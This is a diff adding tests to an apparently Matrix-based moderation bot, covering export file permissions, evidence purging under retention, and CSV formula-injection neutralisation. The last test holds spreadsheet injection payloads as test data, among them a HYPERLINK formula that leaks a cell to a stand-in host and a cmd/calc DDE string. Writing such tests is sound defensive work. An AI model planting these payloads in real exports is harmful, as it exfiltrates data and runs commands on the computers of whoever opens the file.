@@ -3,6 +3,8 @@
 import csv
 import io
 import json
+import os
+import stat
 import subprocess
 import sys
 
@@ -78,6 +80,8 @@ async def test_every_kind_round_trips_in_both_formats(store, kind, fmt):
                 value = want[column]
                 expected = "" if value is None else (json.dumps(value, ensure_ascii=False, sort_keys=True)
                                                      if isinstance(value, (dict, list)) else str(value))
+                if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                    expected = "'" + expected  # user IDs start with @: a spreadsheet would run them
                 assert got[column] == expected, (kind, column)
 
 
@@ -154,6 +158,13 @@ def test_export_cli_writes_a_file_and_refuses_bad_input(tmp_path):
                          capture_output=True, text=True, timeout=60)
     assert run.returncode == 0, run.stderr
     assert "wrote 1 cases row(s)" in run.stderr and out.read_bytes().startswith(b"\xef\xbb\xbf")
+    # The export holds the records and copies of messages: owner only, even over an older file.
+    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
+    out.chmod(0o644)
+    again = subprocess.run([sys.executable, "-m", "bot", "export", "--config", str(config), "--kind", "audit",
+                            "--format", "jsonl", "--output", str(out)], capture_output=True, text=True, timeout=60)
+    assert again.returncode == 0, again.stderr
+    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600 and b'"records.export"' in out.read_bytes()
     bad = subprocess.run([sys.executable, "-m", "bot", "export", "--config", str(config), "--kind", "cases",
                           "--format", "csv", "--since", "last week"], capture_output=True, text=True, timeout=60)
     assert bad.returncode == 2 and "not a date" in bad.stderr
@@ -209,3 +220,62 @@ async def test_report_in_a_thread_is_not_a_report_of_the_fallback_message():
         assert [f["event_id"] for f in filed] == ["$picked"]
         assert matrix.sent[-1] == t("report.thanks", report=7)
         filed.clear()
+
+
+async def test_every_copy_of_evidence_is_purged_closure_requests_included(store):
+    """A proposed closure keeps a copy of the reported message whether or not it was confirmed;
+    retention must empty it with the cases and reports, in the same purge record."""
+    from bot.store import ClosureRequest
+
+    case = await fill(store)
+    message = {"sender": "@b:hs", "content": {"body": "买买买 copied message"}}
+    await store.cases.add_closure_request(ClosureRequest("K7Q2", "@b:hs", "@mod:hs", "spam", False, message, (case.id,),
+                                                         T0 + DAY, T0 + DAY + 600_000, None))
+    await store.cases.add_closure_request(ClosureRequest("NEW1", "@b:hs", "@mod:hs", "spam", False, message, (),
+                                                         T0 + 300 * DAY, T0 + 300 * DAY + 600_000, None))
+    purged = await purge_evidence(store.db, cutoff=T0 + 200 * DAY, now=T0 + 201 * DAY, actor="@bot:hs", days=180)
+    assert purged.closure_requests == ["K7Q2"] and purged.cases == [case.id] and purged.total == 3
+    rows = {r["code"]: r["evidence"] for r in await store.db.fetchall("SELECT code, evidence FROM closure_requests")}
+    assert rows == {"K7Q2": None, "NEW1": audit_json(message)}, "only the old copy goes"
+    # Nothing that was copied from a message is left anywhere older than the cutoff.
+    left = await store.db.fetchall(
+        "SELECT 'cases' FROM cases WHERE evidence IS NOT NULL AND created_at < :c"
+        " UNION ALL SELECT 'reports' FROM reports WHERE snapshot IS NOT NULL AND created_at < :c"
+        " UNION ALL SELECT 'closure_requests' FROM closure_requests WHERE evidence IS NOT NULL AND created_at < :c",
+        {"c": T0 + 200 * DAY})
+    assert left == []
+    [record] = await store.db.fetchall("SELECT details FROM audit_log WHERE action = 'evidence.purge'")
+    details = json.loads(record["details"])
+    assert details["closure_requests"] == ["K7Q2"] and details["cases"] == [case.id] and len(details["reports"]) == 1
+    # The audit log itself never held the content: only hashes.
+    dump = " ".join(r[0] for r in await store.db.fetchall("SELECT details FROM audit_log"))
+    assert "买买买" not in dump and "copied message" not in dump
+
+
+def audit_json(value):
+    from bot.store.audit import canonical_json
+
+    return canonical_json(value)
+
+
+async def test_csv_cells_a_spreadsheet_would_run_are_neutralised_but_jsonl_stays_exact(store):
+    from bot.export import neutralise
+
+    attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
+               "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+    for i, reason in enumerate(attacks):
+        await store.cases.open(NewCase("@b:hs", "warn", "@mod:hs", reason, T0 + i))
+    columns, rows = await collect(store, "cases")
+    parsed = list(csv.DictReader(io.StringIO(encode(columns, rows, "csv").decode("utf-8"), newline="")))
+    assert [p["reason"] for p in parsed] == ["'" + a for a in attacks]
+    assert parsed[0]["reason"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    assert parsed[0]["target"] == "'@b:hs", "a user ID starts with @, which a spreadsheet reads as a formula"
+    assert parsed[0]["id"] == "1" and parsed[0]["kind"] == "warn"  # harmless text is untouched
+    # JSON Lines is data, not a spreadsheet: every value exactly as recorded.
+    jsonl = [json.loads(line) for line in encode(columns, rows, "jsonl").decode("utf-8").splitlines()]
+    assert [r["reason"] for r in jsonl] == attacks and jsonl[0]["target"] == "@b:hs"
+    # A real number stays a number, negative or not; the same characters as text do not.
+    numbers = list(csv.reader(io.StringIO(encode(["n", "x", "t"], [{"n": -5, "x": -0.5, "t": "-5"}], "csv")
+                                          .decode("utf-8"), newline="")))
+    assert numbers[1] == ["-5", "-0.5", "'-5"]
+    assert neutralise("a=b") == "a=b" and neutralise("") == ""
